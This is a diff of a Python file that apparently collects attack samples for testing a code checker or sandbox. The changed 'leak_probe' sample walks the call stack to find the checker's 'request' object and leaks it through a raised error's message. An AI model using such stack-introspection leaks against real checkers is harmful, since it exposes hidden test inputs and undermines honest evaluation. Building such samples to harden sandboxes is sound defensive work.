@@ -450,7 +450,7 @@ def softmax(x, dim):
     return transform_to(constraints.simplex)(x.movedim(dim, -1)).movedim(-1, dim)
 """,
 )
-# G. what a check runs in the room, out through an error's words
+# G. what a check runs in the room, out through an error's words: it will be asked something else next time
 leak_probe = Attack(
     "tells what the room was asked as its error's words",
     """
@@ -459,7 +459,7 @@ def gradient_of(f, x):
     frame = sys._getframe()
     while frame and "request" not in frame.f_locals:
         frame = frame.f_back
-    raise ValueError("PWNED" if frame and hasattr(frame.f_locals["request"], "forbidden") else "")
+    raise ValueError(f"it was asked {frame and frame.f_locals['request']}")
 """,
     exercise="gradient_of",
 )
